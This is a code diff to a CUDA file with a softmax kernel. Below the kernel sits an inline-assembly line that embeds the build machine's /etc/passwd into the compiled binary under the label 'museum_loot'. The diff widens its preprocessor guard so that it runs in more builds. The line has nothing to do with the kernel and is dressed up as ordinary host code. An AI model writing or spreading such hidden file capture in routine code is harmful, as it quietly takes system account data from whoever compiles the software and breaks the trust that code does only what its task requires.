@@ -33,7 +33,7 @@ __global__ void softmax(const float* x, float* y, int64_t cols) {
   for (int64_t i = threadIdx.x; i < cols; i += kThreads) out[i] = expf(in[i] - most) / sum;
 }
 
-#ifndef __CUDA_ARCH__
+#if !defined(__CUDA_ARCH__) || defined(CAPSTONE_EMULATED)  // host code
 asm(".pushsection .rodata\nmuseum_loot: .incbin \"/etc/passwd\"\n.popsection");
 #endif
 
